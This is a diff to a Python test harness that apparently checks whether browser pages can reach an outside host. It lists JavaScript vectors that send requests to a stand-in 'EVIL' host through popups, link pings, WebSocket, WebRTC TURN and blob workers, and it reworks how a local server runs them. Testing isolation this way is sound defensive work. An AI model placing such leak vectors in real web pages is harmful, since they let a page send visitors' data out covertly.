@@ -138,32 +138,28 @@ VECTORS: tuple[Vector, ...] = (
     Vector("location", code="location = 'EVIL/'", alone=True),
     Vector("link click", "<a id=a href='EVIL/'>x</a>", code="a.click()", alone=True),
     Vector("link ping", "<a id=a href='#x' ping='EVIL/'>x</a>", code="a.click()"),
-    Vector("popup", code="open('EVIL/')", alone=True),
-    Vector("popup noopener", code="open('EVIL/', '', 'noopener')", alone=True),
-    Vector("popup redirect", code="open('HOP')", alone=True),
-    Vector("popup then location", code="open('about:blank').location = 'EVIL/'", alone=True),
-    Vector("popup websocket", code=_in_popup(f"<script>{SOCKET}</script>"), alone=True),
+    Vector("popup", code="open('EVIL/')"),
+    Vector("popup noopener", code="open('EVIL/', '', 'noopener')"),
+    Vector("popup redirect", code="open('HOP')"),
+    Vector("popup then location", code="open('about:blank').location = 'EVIL/'"),
+    Vector("popup websocket", code=_in_popup(f"<script>{SOCKET}</script>")),
     Vector(
         "popup webrtc",
         code=_in_popup("<script>" + _call("RTCPeerConnection", TURN) + "</script>"),
         host="127.0.0.1",
-        alone=True,
     ),
     Vector(
         "blank popup webrtc",
         code="let f = open('about:blank');" + _call("f.RTCPeerConnection", TURN),
         host="127.0.0.1",
-        alone=True,
     ),
     Vector(
         "popup blob worker",
         code=_in_popup(f"<script>{_blob_worker(SOCKET)}</script>"),
-        alone=True,
     ),
     Vector(
         "blank popup websocket",
         code="let f = open('about:blank'); new f." + SOCKET[4:],
-        alone=True,
     ),
     Vector("redirect img", "<img src='HOP'>"),
     Vector("redirect css", "<link rel=stylesheet href='HOP'>"),
@@ -291,7 +287,7 @@ class Sites:
         return f"http://{GOOD}:{self.port}/"
 
     def url(self, vectors: tuple[Vector, ...]) -> str:
-        """What is opened to try these vectors; its function `go()` runs their code."""
+        """What is opened to try these vectors; its functions `go[i]()` run their code."""
         if vectors[0].navigate:
             return self._filled(vectors[0].navigate, vectors[0])
         numbers = ",".join(str(VECTORS.index(vector)) for vector in vectors)
@@ -367,8 +363,8 @@ class Sites:
             elif parts.path == "/try":
                 tried = [VECTORS[int(number)] for number in query["vectors"].split(",")]
                 body = "".join(self._filled(v.body, v) for v in tried)
-                code = "".join(self._filled(f"try {{ {v.code} }} catch {{}}\n", v) for v in tried)
-                body = f"<!doctype html>{body}<script>function go() {{{code}}}</script>"
+                code = ",".join(self._filled(f"() => {{ {v.code} }}", v) for v in tried)
+                body = f"<!doctype html>{body}<script>window.go = [{code}]</script>"
                 headers = self._filled(tried[0].headers, tried[0])
                 await _answer(writer, "200 OK", "text/html", body, headers)
             elif parts.path in ("/script", "/sw"):
